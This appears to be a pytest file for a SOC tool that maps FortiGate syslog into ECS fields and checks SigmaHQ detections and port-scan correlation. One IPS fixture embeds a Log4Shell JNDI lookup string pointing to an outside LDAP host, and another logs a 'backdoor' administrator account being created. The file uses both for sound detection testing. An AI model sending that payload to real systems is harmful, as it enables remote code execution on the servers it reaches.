"""FortiGate's key=value syslog -> ECS: traffic, configuration, login and UTM logs, their time
in every unit FortiOS writes it, and the detections they feed (SigmaHQ's FortiGate rules, the
firewall category, the port-scan correlation through `soc scan`)."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from soc.detect.rules import load_rules
from soc.normalize import NormalizeOptions, normalize
from soc.normalize.fortigate import is_fortigate, pairs
from tests.ecs_fields import ABSENT, assert_fields, port_scans

ROOT = Path(__file__).resolve().parents[1]
SIGMA = Path(os.environ.get("SOC_SIGMA_PATH", ROOT.parent / "shared" / "sigma"))
FORTIGATE_RULES = SIGMA / "rules" / "network" / "fortinet"
ZONE = ZoneInfo("Asia/Ho_Chi_Minh")

TRAFFIC = (
    '<189>date=2026-11-28 time=10:23:45 devname="FGT-SO-TTTT" devid="FG100FTK22000002" '
    'eventtime=1795836225123456789 tz="+0700" logid="0000000013" type="traffic" '
    'subtype="forward" level="notice" vd="root" srcip=192.168.1.10 srcport=54321 '
    'srcintf="port1" srcintfrole="lan" dstip=8.8.8.8 dstport=53 dstintf="wan1" '
    'dstintfrole="wan" sessionid=12345 proto=17 action="accept" policyid=1 '
    'policytype="policy" service="DNS" dstcountry="United States" srccountry="Reserved" '
    'trandisp="snat" transip=203.0.113.1 transport=61000 duration=180 sentbyte=64 '
    'rcvdbyte=128 sentpkt=1 rcvdpkt=1 appcat="unscanned"'
)


def fortigate(line: str, zone: Any = ZONE) -> dict[str, Any]:
    record = {
        "id": "fgt-1",
        "received_at": "2026-11-28T03:23:50Z",
        "source": {"type": "syslog", "peer": "10.0.0.254"},
        "data": line,
    }
    return normalize(record, NormalizeOptions(timezone=zone))


def test_a_traffic_log_fills_the_network_fields_rules_and_analysts_use() -> None:
    event = fortigate(TRAFFIC)
    assert_fields(
        event,
        {
            "@timestamp": "2026-11-28T03:23:45.123456Z",  # eventtime, in nanoseconds
            "event.module": "fortinet",
            "event.dataset": "fortinet.firewall",
            "event.code": "0000000013",
            "event.action": "accept",
            "event.category": ["network"],
            "event.type": ["connection", "allowed"],
            "event.outcome": ABSENT,
            "event.duration": 180 * 10**9,
            "host.name": "FGT-SO-TTTT",
            "observer.vendor": "Fortinet",
            "observer.product": "FortiGate",
            "observer.serial_number": "FG100FTK22000002",
            "observer.ingress.interface.name": "port1",
            "observer.egress.interface.name": "wan1",
            "source.ip": "192.168.1.10",
            "source.port": 54321,
            "source.nat.ip": "203.0.113.1",
            "source.nat.port": 61000,
            "source.bytes": 64,
            "destination.ip": "8.8.8.8",
            "destination.port": 53,
            "destination.packets": 1,
            "network.transport": "udp",
            "network.iana_number": "17",
            "network.bytes": 192,
            "related.ip": ["192.168.1.10", "8.8.8.8"],
            # Every pair kept as FortiOS wrote it, for SigmaHQ's FortiGate rules and hunting.
            "fortinet.firewall.dstcountry": "United States",
            "fortinet.firewall.policyid": "1",
            "fortinet.firewall.type": "traffic",
        },
    )
    assert "fortigate" in event["tags"]
    assert event["event"]["original"] == TRAFFIC


@pytest.mark.parametrize(
    ("time_fields", "expected"),
    [
        ("eventtime=1795836225", "2026-11-28T03:23:45.000000Z"),  # seconds (FortiOS 5, 6.0)
        ("eventtime=1795836225123", "2026-11-28T03:23:45.123000Z"),  # milliseconds
        ("eventtime=1795836225123456", "2026-11-28T03:23:45.123456Z"),  # microseconds
        ('eventtime=abc tz="+0700"', "2026-11-28T03:23:45.000000Z"),  # date and time in tz
        ('tz="-05:00"', "2026-11-28T15:23:45.000000Z"),
        ("", "2026-11-28T03:23:45.000000Z"),  # no zone: the site's (UTC+7)
    ],
)
def test_the_log_time_is_read_in_every_form_fortios_writes(time_fields: str, expected: str) -> None:
    line = (
        f'<189>date=2026-11-28 time=10:23:45 devname="FGT" devid="FGT60F" {time_fields} '
        'logid="0000000013" type="traffic" subtype="forward" srcip=10.0.0.1 dstip=10.0.0.2'
    )
    assert fortigate(line)["@timestamp"] == expected


def test_a_denied_connection_is_a_failure_and_denied() -> None:
    line = TRAFFIC.replace('action="accept"', 'action="deny"')
    assert_fields(
        fortigate(line),
        {
            "event.type": ["connection", "denied"],
            "event.outcome": "failure",
            "event.action": "deny",
        },
    )


def test_a_failed_administrator_login_is_an_authentication_failure() -> None:
    line = (
        '<185>date=2026-11-28 time=10:30:01 devname="FGT" devid="FGT60F" '
        'logid="0100032002" type="event" subtype="system" level="alert" vd="root" '
        'logdesc="Admin login failed" sn="0" user="admin" ui="https(203.0.113.5)" '
        'method="https" srcip=203.0.113.5 dstip=10.0.0.254 action="login" status="failed" '
        'reason="passwd_invalid" msg="Administrator admin login failed from https(203.0.113.5) '
        'because of invalid password"'
    )
    assert_fields(
        fortigate(line),
        {
            "event.category": ["authentication"],
            "event.type": ["start"],
            "event.outcome": "failure",
            "user.name": "admin",
            "source.ip": "203.0.113.5",
            "message": "Administrator admin login failed from https(203.0.113.5) because of "
            "invalid password",
        },
    )


def test_an_ips_detection_is_an_alert_of_intrusion_detection() -> None:
    line = (
        '<185>date=2026-11-28 time=10:31:00 devname="FGT" devid="FGT60F" logid="0419016384" '
        'type="utm" subtype="ips" eventtype="signature" level="alert" severity="critical" '
        "srcip=198.51.100.7 srcport=44123 dstip=10.0.0.80 dstport=443 proto=6 "
        'action="dropped" attack="Apache.Log4j.Error.Log.Remote.Code.Execution" '
        'hostname="portal.example.gov.vn" url="/?x=${jndi:ldap://198.51.100.7/a}"'
    )
    assert_fields(
        fortigate(line),
        {
            "event.kind": "alert",
            "event.category": ["intrusion_detection"],
            "event.type": ["denied"],
            "url.domain": "portal.example.gov.vn",
            "url.path": "/",
            "fortinet.firewall.attack": "Apache.Log4j.Error.Log.Remote.Code.Execution",
        },
    )


def test_a_syslog_header_keeps_its_host_and_odd_values_are_kept_not_trusted() -> None:
    line = (
        '<189>Nov 28 10:23:45 fw-core date=2026-11-28 time=10:23:45 devname="FGT" '
        'devid="FGT60F" logid="0000000013" type="traffic" subtype="forward" '
        "srcip=not-an-address srcport=99999 dstip=10.0.0.2 dstport=x proto=999 "
        'msg="said \\"hello\\" twice" msg="second" action="deny"'
    )
    event = fortigate(line)
    assert_fields(
        event,
        {
            "host.name": "fw-core",
            "observer.name": "FGT",
            "source.address": "not-an-address",
            "source.ip": ABSENT,
            "source.port": ABSENT,
            "destination.ip": "10.0.0.2",
            "destination.port": ABSENT,
            "network": ABSENT,
            "message": 'said "hello" twice',  # the first of a repeated key
        },
    )


def test_only_fortios_logs_are_taken_for_fortigate() -> None:
    assert is_fortigate(TRAFFIC)
    assert not is_fortigate("sshd[1]: Accepted password for logid=1 type=x devname=y")
    assert not is_fortigate('logid="0000000013" type="traffic" srcip=1.2.3.4')  # no device
    sshd = "<38>Nov 28 10:00:00 web01 sshd[42]: Failed password for root from 203.0.113.7 port 1"
    assert fortigate(sshd)["event"]["dataset"] == "sshd.log" or "fortinet" not in fortigate(sshd)
    assert pairs('a=1 b="two words" c= d="x\\"y"') == {
        "a": "1",
        "b": "two words",
        "c": "",
        "d": 'x"y',
    }


@pytest.mark.skipif(not FORTIGATE_RULES.is_dir(), reason=f"no SigmaHQ rules at {FORTIGATE_RULES}")
def test_sigmahq_fortigate_and_firewall_rules_fire_on_fortigate_logs() -> None:
    ruleset = load_rules([FORTIGATE_RULES, SIGMA / "rules" / "network" / "firewall"])
    assert not ruleset.unrouted
    admin = (
        '<185>date=2026-11-28 time=10:30:01 devname="FGT" devid="FGT60F" logid="0100044547" '
        'type="event" subtype="system" level="information" vd="root" '
        'logdesc="Object attribute configured" user="admin" ui="GUI(10.0.0.5)" action="Add" '
        'cfgtid=1234 cfgpath="system.admin" cfgobj="backdoor" msg="Add system.admin backdoor"'
    )
    assert [rule.title for rule in ruleset.match(fortigate(admin))] == [
        "FortiGate - New Administrator Account Created"
    ]
    edited = admin.replace('action="Add"', 'action="Edit"')
    assert ruleset.match(fortigate(edited)) == []
    telnet = TRAFFIC.replace("dstport=53", "dstport=23")
    assert [rule.title for rule in ruleset.match(fortigate(telnet))] == ["Cleartext Protocol Usage"]
    assert ruleset.match(fortigate(TRAFFIC)) == []


def test_a_port_scan_against_the_firewall_is_found_in_its_logs(tmp_path: Path) -> None:
    """`soc scan` over a FortiGate log: one address denied on 30 ports in half a minute is a
    port scan; a client allowed to as many ports is not."""
    lines = []
    for n in range(30):
        for source, action in (("198.51.100.23", "deny"), ("10.0.0.8", "accept")):
            lines.append(
                f'<189>date=2026-11-28 time=10:20:{n:02d} devname="FGT" devid="FGT60F" '
                f'tz="+0700" logid="0000000013" type="traffic" subtype="forward" '
                f"srcip={source} srcport={40000 + n} dstip=10.0.0.5 dstport={2000 + n} proto=6 "
                f'action="{action}" policyid=0'
            )
    (found,) = port_scans(tmp_path, "fortigate.log", lines)
    assert found["correlation"]["group"] == {"source.ip": "198.51.100.23"}
    assert found["correlation"]["value"] >= 20
